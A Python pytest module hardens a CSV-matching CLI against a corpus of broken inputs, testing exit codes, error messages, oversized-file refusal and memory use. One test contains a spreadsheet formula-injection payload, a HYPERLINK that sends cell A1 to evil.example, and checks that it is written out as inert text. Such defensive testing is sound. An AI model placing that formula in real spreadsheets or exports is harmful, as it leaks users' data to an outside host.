"""Every broken input of the corpus (tests/data/bad/MANIFEST.toml) through the real CLI:
the documented exit code, a message naming the file, row and column, never a traceback,
and a refused input leaves the earlier results folder exactly as it was."""

from __future__ import annotations

import csv
import subprocess
import sys
import time
from pathlib import Path

import pytest

from benchmarks.hardening_corpus import (
    CORPUS,
    ROOT,
    Case,
    check,
    inputs,
    invoke,
    load_cases,
    write_file_200mb,
)

CASES = load_cases()
#: The CLI in a process that reports its own peak memory (KiB) last on stderr: VmHWM, as
#: ru_maxrss would carry over the parent's peak from before the exec.
MEASURED_CLI = """
import re, sys
from pathlib import Path
from matcher.cli import app
try:
    app()
finally:
    status = Path("/proc/self/status").read_text()
    print("maxrss", re.search(r"VmHWM:\\s*(\\d+)", status).group(1), file=sys.stderr)
"""
BY_ID = {case.id: case for case in CASES}


@pytest.fixture(scope="module")
def workdir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One folder for the module: the generated files (200 MB) are written once."""
    return tmp_path_factory.mktemp("bad-input")


def test_corpus_is_large_and_every_file_is_a_case() -> None:
    named = {Path(f).name for case in CASES for f in (*case.files, case.config)}
    on_disk = {p.name for p in CORPUS.iterdir()} - {"MANIFEST.toml", "generate.py"}
    assert len(CASES) >= 40
    assert on_disk <= named, f"files without a case: {sorted(on_disk - named)}"
    assert len({case.id for case in CASES}) == len(CASES)
    assert sum(p.stat().st_size for p in CORPUS.iterdir()) < 1_000_000  # the large are generated


@pytest.mark.parametrize("command", ["validate", "run"])
@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_case_is_answered_as_documented(case: Case, command: str, workdir: Path) -> None:
    outcome = invoke(case, command, workdir)
    assert not outcome.traceback, outcome.stdout + outcome.stderr
    assert check(outcome, workdir) == [], outcome.stdout + outcome.stderr


def test_formula_answers_are_written_inert(workdir: Path) -> None:
    """The warning is not all: the formula reaches every CSV as text a spreadsheet
    will not run."""
    outcome = invoke(BY_ID["formula_name"], "run", workdir)
    assert outcome.exit_code == 0
    out = workdir / "formula_name-run" / "results"
    with (out / "participants.csv").open(encoding="utf-8", newline="") as handle:
        names = [row["name"] for row in csv.DictReader(handle)]
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Zoe Fischer")' in names
    assert not any(name.startswith("=") for name in names)


def test_200mb_file_is_refused_at_once_in_bounded_memory(workdir: Path) -> None:
    """The size is checked before reading: a separate process answers in a few seconds
    and its peak memory stays at what importing the program costs, far below the file."""
    if not Path("/proc/self/status").exists():
        pytest.skip("peak memory is read from /proc (Linux)")
    survey = workdir / "file_200mb.csv"
    if not survey.exists():
        write_file_200mb(survey)
    assert survey.stat().st_size >= 200_000_000
    started = time.perf_counter()
    result = subprocess.run(
        [sys.executable, "-c", MEASURED_CLI, "validate", str(survey),
         "-c", str(ROOT / "data" / "sample_program.toml")],
        capture_output=True, text=True, cwd=ROOT, timeout=60, check=False,
    )  # fmt: skip
    seconds = time.perf_counter() - started
    peak_mib = int(result.stderr.rsplit("maxrss ", 1)[1]) / 1024
    assert result.returncode == 1, result.stderr
    assert "the limit is 50 MB" in result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    assert seconds < 20
    assert peak_mib < 400, peak_mib  # the file alone is 200 MB, 800 MB as a Python str


def test_generated_inputs_are_not_in_the_repository(workdir: Path) -> None:
    for case in CASES:
        if case.generate:
            files, _ = inputs(case, workdir)
            assert all(ROOT not in p.parents for p in files)
